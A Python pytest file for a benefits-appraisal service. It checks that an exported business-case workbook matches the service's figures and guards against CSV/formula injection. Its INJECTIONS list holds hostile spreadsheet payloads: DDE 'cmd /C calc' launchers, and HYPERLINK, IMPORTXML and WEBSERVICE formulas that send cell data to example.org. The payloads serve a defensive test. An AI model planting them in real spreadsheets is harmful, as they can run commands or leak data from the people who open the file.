"""The business-case workbook, recalculated by LibreOffice, agrees with the service to the penny."""

from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlmodel import Session, select

from benefits import appraisal, baselines, finance, register, switching
from benefits.appraisal import penny
from benefits.errors import Conflict
from benefits.example import load_example
from benefits.models import Benefit, BenefitCreate, Initiative
from benefits.models.baseline import RebaselineCreate
from benefits.workbooks.business_case import business_case_workbook
from tests.support.factories import TESTER, make_benefit, make_cost_centre, make_initiative
from tests.support.spreadsheet import recalculate

AS_OF = date(2026, 11, 23)
INJECTIONS = [
    "=1+1",
    '=HYPERLINK("http://example.org/?"&A1,"Click")',
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    '=IMPORTXML(CONCAT("http://example.org/?v=",A1),"//a")',
    '=WEBSERVICE("http://example.org/")',
    'DDE("cmd";"/C calc";"!A0")',
]


def _key_figures(path: Path) -> dict[str, object]:
    sheet = load_workbook(path, data_only=True)["Summary"]
    return {str(sheet.cell(row, 1).value): sheet.cell(row, 2).value for row in range(13, 22)}


def _pennies(value: object) -> Decimal:
    return penny(Decimal(repr(value)))


@pytest.fixture
def example(session: Session) -> int:
    load_example(session=session)
    initiative = session.exec(select(Initiative)).one()
    assert initiative.id is not None
    return initiative.id


def test_the_example_workbook_agrees_with_the_service(
    session: Session, example: int, libreoffice: str, tmp_path: Path
) -> None:
    written = tmp_path / "business-case.xlsx"
    written.write_bytes(business_case_workbook(session=session, initiative_id=example, as_of=AS_OF))
    figures = _key_figures(recalculate(written))
    service = appraisal.appraise(session=session, initiative_id=example)
    assert _pennies(figures["Economic net present value"]) == service.economic.npv
    assert figures["Benefit-cost ratio"] == pytest.approx(service.economic.bcr, rel=1e-12)
    assert _pennies(figures["Financial net present value"]) == service.financial.npv
    assert figures["Internal rate of return"] == pytest.approx(service.financial.irr, rel=1e-9)
    assert figures["Payback period"] == service.financial.payback_period
    assert figures["Discounted payback period"] == service.financial.discounted_payback_period

    summary = finance.cash_capacity_summary(session=session, initiative_id=example, today=AS_OF)
    sheet = load_workbook(recalculate(written), data_only=True)["Cash v capacity"]
    by_year = {sheet.cell(row, 1).value: [sheet.cell(row, c).value for c in range(2, 7)] for row in range(5, 10)}
    assert by_year == {
        year.year: [year.cash, year.capacity, year.undecided, year.cash_confirmed, year.cash_at_risk]
        for year in summary.years
    }
    assert _pennies(figures["Cash at risk"]) == sum(year.cash_at_risk for year in summary.years) > 0
    assert _pennies(figures["Cash-releasing benefits (all years)"]) == sum(year.cash for year in summary.years)


def test_changing_an_assumption_moves_the_workbook_as_the_service_does(
    session: Session, example: int, libreoffice: str, tmp_path: Path
) -> None:
    written = tmp_path / "business-case.xlsx"
    written.write_bytes(business_case_workbook(session=session, initiative_id=example, as_of=AS_OF))
    book = load_workbook(written)
    assumptions = book["Assumptions"]
    row = next(r for r in range(5, 40) if assumptions.cell(r, 1).value == "phone_transactions_moved")
    low = assumptions.cell(row, 5).value
    assumptions.cell(row, 4).value = low
    book.save(written)
    figures = _key_figures(recalculate(written))
    service = switching.switching_values(session=session, initiative_id=example)
    moved = next(row for row in service.assumptions if row.assumption == "phone_transactions_moved")
    assert moved.npv_at_low is not None
    assert _pennies(figures["Economic net present value"]) == penny(moved.npv_at_low)
    assert _pennies(figures["Economic net present value"]) != service.npv


def test_text_from_users_is_always_text(session: Session, libreoffice: str, tmp_path: Path) -> None:
    initiative = make_initiative(session, name="=1+1 initiative")
    make_cost_centre(session, code="CC1")
    created = []
    for payload in INJECTIONS:
        # An owner is a person (the factory makes one of each name); text with an @ is looked up as an e-mail, as
        # no name holds one, so it names nobody and is refused, and that benefit is kept without an owner.
        owner = None if "@" in payload else payload
        if owner is None:
            sent = BenefitCreate(title=payload, owner=payload, cost_centre="CC1")
            with pytest.raises(Conflict) as refused:
                register.create_benefit(session=session, initiative_id=initiative.id or 0, fields=sent, actor=TESTER)
            assert [(p.code, p.field) for p in refused.value.problems] == [("person_unknown", "owner")]
        created.append(make_benefit(session, initiative=initiative, title=payload, owner=owner, cost_centre="CC1"))
    stored_titles = [benefit.title for benefit in created]  # as the register keeps them (trimmed)
    assert stored_titles[6] == "=1+1"
    stored_owners = [benefit.owner for benefit in created]
    assert stored_owners == [None if "@" in title else title for title in stored_titles]
    written = tmp_path / "injection.xlsx"
    written.write_bytes(business_case_workbook(session=session, initiative_id=initiative.id or 0, as_of=AS_OF))
    stored = load_workbook(written)["Benefits"]
    titles = [stored.cell(row, 2) for row in range(5, 5 + len(INJECTIONS))]
    assert [cell.value for cell in titles] == stored_titles
    assert {cell.data_type for cell in titles} == {"s"}
    recalculated = load_workbook(recalculate(written), data_only=True)
    assert [recalculated["Benefits"].cell(row, 2).value for row in range(5, 5 + len(INJECTIONS))] == stored_titles
    assert [recalculated["Benefits"].cell(row, 7).value for row in range(5, 5 + len(INJECTIONS))] == stored_owners
    assert recalculated["Summary"]["B3"].value == "=1+1 initiative"


def test_the_workbook_is_laid_out_for_finance(session: Session, example: int) -> None:
    from io import BytesIO

    book = load_workbook(BytesIO(business_case_workbook(session=session, initiative_id=example, as_of=AS_OF)))
    assert book.sheetnames == ["Summary", "Assumptions", "Model", "Benefits", "Baselines", "Costs", "Appraisal",
                               "Cash v capacity", "Pipeline", "Notes", "Demand"]  # fmt: skip
    assert {"phone_calls_a_year", "capacity_value"} <= set(book.defined_names)
    benefits = book["Benefits"]
    assert benefits.freeze_panes == "C5" and benefits.auto_filter.ref.startswith("A4:")
    assert {str(validation.sqref) for validation in benefits.data_validations.dataValidation} >= {"C5:C14", "E5:E14"}
    assert benefits.print_title_rows == "$3:$4" and benefits.page_setup.orientation == "landscape"
    model = book["Model"]
    capacity = next(r for r in range(5, 30) if model.cell(r, 1).value == "capacity_value")
    assert model.cell(capacity, 4).value.startswith("=") and model.cell(capacity, 4).data_type == "f"
    assert book["Summary"]._charts, "the summary carries a chart of benefits and costs by year"
    assert book["Appraisal"]["B15"].number_format == "0.0000"


def test_every_baseline_and_the_capacity_not_yet_redeployed_reach_the_workbook(
    session: Session, example: int, libreoffice: str, tmp_path: Path
) -> None:
    titled = {benefit.title: benefit for benefit in session.exec(select(Benefit)).all()}
    library = titled["Library staff time given to assisted digital support"]
    # The library's plan was re-forecast after approval; finance re-baselines it.
    baselines.rebaseline(session=session, benefit_id=library.id or 0, expected_version=None, actor=TESTER,
                         fields=RebaselineCreate(reason="Bookings re-forecast"))  # fmt: skip
    written = tmp_path / "business-case.xlsx"
    written.write_bytes(business_case_workbook(session=session, initiative_id=example, as_of=AS_OF))
    book = load_workbook(recalculate(written), data_only=True)
    rows = [row for row in book["Baselines"].iter_rows(min_row=5, values_only=True) if row[0] is not None]
    kept = {(row[0], row[2]): row for row in rows}
    assert (library.id, 1) in kept and (library.id, 2) in kept
    assert kept[(library.id, 1)][4] == "No" and kept[(library.id, 2)][4] == "Yes"
    assert kept[(library.id, 2)][7] == "Bookings re-forecast"
    # Baseline 1 is the plan approved first (34,000 then 33,600 a year); baseline 2 the re-forecast (28,000 a year).
    assert kept[(library.id, 1)][-1] == 14000 + 34000 + 3 * 33600
    assert kept[(library.id, 2)][-1] == 14000 + 4 * 28000
    satisfaction = titled["Customer satisfaction raised"]
    assert kept[(satisfaction.id, 1)][-1] == 98  # a level's size is its last level, never a sum
    summary = finance.cash_capacity_summary(session=session, initiative_id=example, today=AS_OF)
    sheet = book["Cash v capacity"]
    shown = {sheet.cell(r, 1).value: (sheet.cell(r, 7).value, sheet.cell(r, 8).value) for r in range(5, 10)}
    assert shown == {year.year: (year.capacity_redeployed, year.capacity_not_redeployed) for year in summary.years}
    assert shown["2026-27"] == (58900, 63675 - 58900)
